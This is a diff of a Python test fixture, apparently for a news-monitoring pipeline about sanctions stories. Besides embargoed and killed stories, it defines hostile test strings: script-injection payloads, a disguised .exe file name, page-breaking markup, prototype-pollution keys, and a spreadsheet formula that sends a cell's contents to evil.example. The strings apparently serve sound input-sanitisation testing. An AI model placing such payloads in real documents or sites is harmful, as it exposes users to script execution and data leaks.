@@ -19,7 +19,8 @@ SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 BIDI = "\u202egnp.exe\u2066"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
 HOSTILE_NAME = f"-2+3 {SCRIPT}{BIDI}"
-HOSTILE_BODY = f'{CLAUSE} {HOSTILE_NAME} </div></main><style>*{{display:none}}</style>" onmouseover="alert(3) {FORMULA} __proto__ constructor'
+MARKUP = '</div></main><style>*{display:none}</style>" onmouseover="alert(3)'
+HOSTILE_BODY = f"{CLAUSE} {HOSTILE_NAME} {MARKUP} {FORMULA} __proto__ constructor"
 HIDDEN_WORD = "Zembla"  # of stories that may not be shown
 
 NORWAY, BELARUS, SWEDEN = a_country("NO"), a_country("BY"), a_country("SE")
@@ -29,12 +30,19 @@ FIRM = Entity("entity_hostile", EntityKind.ORGANIZATION, HOSTILE_NAME, None)
 def stock(published: Path) -> Path:
     """Load the stories; return the warehouse."""
     embargoed = {"embargoed_until": datetime(2999, 1, 1, tzinfo=UTC), "headline": f"{HIDDEN_WORD} waits"}
-    killed = {"publish_status": PublishStatus.CANCELED, "headline": f"{HIDDEN_WORD} dies", "published_at": datetime(2026, 1, 2, tzinfo=UTC)}
+    killed = {
+        "publish_status": PublishStatus.CANCELED,
+        "headline": f"{HIDDEN_WORD} dies",
+        "published_at": datetime(2026, 1, 2, tzinfo=UTC),
+    }
     hidden = f"{BODY} {HIDDEN_WORD}."
     take(
         published,
         telling(a_story("story_imposed", body=BODY, headline="Norway bans timber"), Status.IMPOSED, positions=True),
-        telling(a_story("story_proposed", body=BODY, headline="Ban asked for", published_at=None, published_precision=None), Status.PROPOSED),
+        telling(
+            a_story("story_proposed", body=BODY, headline="Ban asked for", published_at=None, published_precision=None),
+            Status.PROPOSED,
+        ),
         telling(a_story("story_hostile", **_hostile()), Status.EXTENDED, target=FIRM),
         telling(a_story("story_embargoed", body=hidden, **embargoed), Status.LIFTED),
         telling(a_story("story_killed", "v1", body=hidden, headline=f"{HIDDEN_WORD} lives"), Status.EASED),
@@ -61,8 +69,8 @@ def telling(story: Story, status: Status, target: Entity = BELARUS, positions: b
         evidence_text=CLAUSE, evidence_start=0, evidence_end=len(CLAUSE),
     )  # fmt: skip
     stance = Position(
-        f"position_{story.story_id}", story.story_id, story.version, measure.measure_id, SWEDEN.entity_id, "SE", "SE", Stance.OPPOSES,
-        "Sweden opposed the ban.", BODY.index("Sweden"), len(BODY), "P-word-oppose",
+        f"position_{story.story_id}", story.story_id, story.version, measure.measure_id, SWEDEN.entity_id, "SE", "SE",
+        Stance.OPPOSES, "Sweden opposed the ban.", BODY.index("Sweden"), len(BODY), "P-word-oppose",
     )  # fmt: skip
     return a_batch(
         story,
